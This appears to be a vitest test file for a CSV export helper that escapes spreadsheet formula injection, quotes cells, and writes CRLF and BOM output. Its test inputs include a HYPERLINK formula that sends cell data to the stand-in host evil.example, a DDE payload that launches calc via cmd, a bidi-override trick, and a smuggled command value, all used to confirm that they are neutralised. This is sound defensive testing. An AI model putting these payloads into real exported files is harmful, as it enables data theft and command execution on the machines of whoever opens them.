import { describe, expect, it } from 'vitest';
import { csvCell, formatCsv } from './csv.ts';

describe('csvCell', () => {
  it.each([
    [
      '=HYPERLINK("http://evil.example/?d="&A1,"点击")',
      `"'=HYPERLINK(""http://evil.example/?d=""&A1,""点击"")"`,
    ],
    ['+cmd|" /C calc"!A0', `"'+cmd|"" /C calc""!A0"`],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
  ])('neutralises the formula %j', (value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });

  it('removes a bidi override before checking for a formula, so it cannot hide one', () => {
    expect(csvCell('\u202e=1+1')).toBe("'=1+1");
    expect(csvCell('甲\u202e乙\u200b公司')).toBe('甲乙公司');
  });

  it('quotes commas, quotes, line breaks and edge spaces, and leaves plain text alone', () => {
    expect(csvCell('甲公司, 北京')).toBe('"甲公司, 北京"');
    expect(csvCell('说"是"')).toBe('"说""是"""');
    expect(csvCell('a\nb')).toBe('"a\nb"');
    expect(csvCell(' a')).toBe('" a"');
    expect(csvCell('北京市东城区澜丰信息技术有限公司')).toBe('北京市东城区澜丰信息技术有限公司');
    expect(csvCell(null)).toBe('');
    expect(csvCell(3)).toBe('3');
  });
});

describe('formatCsv', () => {
  it('ends every line with CRLF and adds the BOM on request', () => {
    expect(
      formatCsv([
        ['名称', '结果'],
        ['甲公司', '通过'],
      ]),
    ).toBe('名称,结果\r\n甲公司,通过\r\n');
    expect(formatCsv([['名称']], { bom: true })).toBe('\ufeff名称\r\n');
  });
});

describe('codes kept as text for a spreadsheet', () => {
  it('writes an excelText code as the text formula ="…", quoted for CSV', () => {
    expect(csvCell({ excelText: '911100005619764921' })).toBe('"=""911100005619764921"""');
    expect(formatCsv([['代码'], [{ excelText: '110108000000016' }]])).toBe(
      '代码\r\n"=""110108000000016"""\r\n',
    );
  });

  it('never lets an excelText cell carry a formula: anything but a code is a plain, guarded cell', () => {
    expect(csvCell({ excelText: '1+1' })).toBe('1+1');
    expect(csvCell({ excelText: '=HYPERLINK("x")' })).toBe(csvCell('=HYPERLINK("x")'));
    expect(csvCell({ excelText: '=HYPERLINK("x")' }).startsWith(`"'=`)).toBe(true);
    expect(csvCell({ excelText: '9111")&CMD' })).not.toContain('=');
  });
});
